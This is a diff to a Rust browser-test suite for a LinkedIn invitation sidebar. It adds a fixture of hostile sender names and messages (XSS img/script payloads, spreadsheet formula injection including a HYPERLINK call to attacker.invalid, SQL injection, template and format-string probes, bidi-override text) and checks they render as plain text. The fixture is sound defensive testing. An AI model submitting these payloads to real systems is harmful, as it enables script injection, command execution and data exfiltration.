@@ -10,6 +10,29 @@ use crate::pages::sidebar::{Sidebar, hook};
 use crate::wait::until;
 use crate::world::World;
 
+/// What the sidebar shows of some of the hostile senders, to the letter: name, headline, message.
+const EXACT: [[&str; 4]; 8] = [
+    [
+        "img-onerror",
+        "<img src=x onerror=alert(1)>",
+        "<script>document.title=\"owned\"</script>",
+        "<img src=x onerror=\"window.owned=1\"> </script><script>window.owned=2</script>",
+    ],
+    [
+        "equals-cmd",
+        "=cmd|'/C calc'!A0",
+        "=HYPERLINK(\"https://attacker.invalid/?q=\"&A1,\"click\")",
+        "+SUM(1+1)*cmd|' /C calc'!A0",
+    ],
+    // Nothing that turns the direction of what stands around it.
+    ["rlo-name", "gnp.elpmaS aiM", "Abc fed ghi isolated", "Please pay to knab eht and not to the bank"],
+    ["null", "null", "undefined", "[object Object]"],
+    ["__proto__", "__proto__", "constructor", "toString"],
+    ["constructor", "Robert\"); DROP TABLE people;--", "' OR 1=1 --", "${7*7} {{7*7}} #{7*7} %s%s%n"],
+    ["accept-ignore", "Accept Ignoré", "Accept Ignore Accept", "Accept"],
+    ["template", "{n} and {t} and {c}", "{n}", "{n}"],
+];
+
 pub async fn hostile_texts_stay_text(world: &mut World) -> Result<()> {
     let mut scenario = world.site.scenario_file("hostile")?;
     scenario["generation"] = json!("sdui2026");
@@ -21,6 +44,7 @@ pub async fn hostile_texts_stay_text(world: &mut World) -> Result<()> {
     let rows = until("senders", || sidebar.listed(), |rows| rows.len() >= people.unwrap_or(0) * 9 / 10).await?;
 
     world.step("looks at every one of them").await?;
+    let mut exactly = 0;
     let sidebar = Sidebar(&world.browser);
     for address in &rows {
         let turned = json!({ "turn": { "to": address } });
@@ -34,7 +58,15 @@ pub async fn hostile_texts_stay_text(world: &mut World) -> Result<()> {
         let wide = "return document.documentElement.scrollWidth - document.documentElement.clientWidth;";
         let wide = sidebar.eval(wide, vec![]).await?;
         ensure!(wide.as_i64().unwrap_or(1) <= 1, "{address}: a text makes the sidebar scroll sideways by {wide}");
+        if let Some([_, exact @ ..]) = EXACT.iter().find(|[slug, ..]| slug == address) {
+            let texts = "return ['[data-test=name] bdi', '.who-headline bdi', '[data-test=quote] blockquote'] \
+                         .map((css) => document.querySelector(css)?.textContent ?? null);";
+            let texts = sidebar.eval(texts, vec![]).await?;
+            ensure!(texts == json!(exact), "{address} is shown as {texts}");
+            exactly += 1;
+        }
     }
+    ensure!(exactly >= 6, "only {exactly} of those whose texts are known were listed");
     let errors = world.browser.eval("return window.__replica.pageErrors;", vec![]).await?;
     ensure!(errors == json!([]), "{errors}");
 
@@ -142,6 +174,45 @@ pub async fn an_unreadable_page_is_said_to_be_one(world: &mut World) -> Result<(
     Sidebar(&world.browser).fill("#ask-about", "https://www.linkedin.com/in/mia-sample/?x=1").await?;
     Sidebar(&world.browser).click(&hook("ask")).await?;
     Sidebar(&world.browser).asks_about("mia-sample").await?;
+    Ok(())
+}
+
+/// One person's invitation at the left, and beside it entries of other kinds and uncertain ones, where the frame likes to stand.
+const COLUMNS: &str = "<!DOCTYPE html><html lang=\"en\"><head><title>Invitations | LinkedIn</title><style>\
+    main { display: grid; grid-template-columns: 380px 380px; justify-content: end; gap: 20px; padding: 80px 40px } \
+    ul { padding: 0 } li { display: block; padding: 12px } button { float: inline-end }</style></head><body><main>\
+    <ul><li><a href=\"/in/mia-sample/\">Mia Sample</a><p>is inviting you to connect</p>\
+    <button aria-label=\"Ignore an invitation to connect from Mia Sample\">Ignore</button>\
+    <button aria-label=\"Accept Mia Sample’s invitation\">Accept</button></li></ul>\
+    <ul>ENTRIES</ul></main></body></html>";
+const OTHER_KIND: &str = "<li><a href=\"/in/greta-other/\">Greta Other</a> <p>invited you to subscribe to \
+    <a href=\"/newsletters/slow-letter-1/\">Slow Letter</a></p><button aria-label=\"Ignore an invitation from Greta Other\">Ignore\
+    </button><button aria-label=\"Accept Greta Other’s invitation\">Accept</button></li>";
+const UNCERTAIN: &str = "<li><a href=\"/in/luis-perhaps/\">Luis Perhaps</a> <a href=\"/in/ana-perhaps/\">Ana Perhaps</a>\
+    <button>Ignore</button><button>Accept</button></li>";
+
+/// Neither kind of entry is one of ours, and still the frame must not stand on its buttons.
+pub async fn covers_no_button_of_others(world: &mut World) -> Result<()> {
+    for (entries, what) in [(OTHER_KIND, "others"), (UNCERTAIN, "doubts")] {
+        for (width, height) in [(1280, 800), (1440, 900), (1920, 1080)] {
+            world.browser.set_size(width, height).await?;
+            world.open_invitations(json!({ "html": COLUMNS.replace("ENTRIES", &entries.repeat(3)) })).await?;
+            Sidebar(&world.browser).asks_about("Mia Sample").await?;
+            let place = format!("{what} at {width}x{height}");
+            let reviews = world.reviews().await?;
+            ensure!(reviews[0][what].as_array().is_some_and(|all| !all.is_empty()), "{place}: {reviews:?}");
+            ensure!(reviews[0]["senders"].as_array().is_some_and(|all| all.len() == 1), "{place}: {reviews:?}");
+            let buttons = world.browser.eval(BUTTONS, vec![]).await?;
+            ensure!(buttons.as_array().is_some_and(|all| all.len() == 8), "{place}: {buttons}");
+            let [left, top, wide, high] = world.browser.frame_rect().await?;
+            ensure!(wide >= 300.0, "{place}: only {wide} wide");
+            for button in buttons.as_array().into_iter().flatten() {
+                let at = |n: usize| button.get(n).and_then(Value::as_f64).unwrap_or_default();
+                let apart = at(2) <= left || at(0) >= left + wide || at(3) <= top || at(1) >= top + high;
+                ensure!(apart, "{place}: the frame at {left},{top} {wide}x{high} covers a button at {button}");
+            }
+        }
+    }
     Ok(())
 }
 
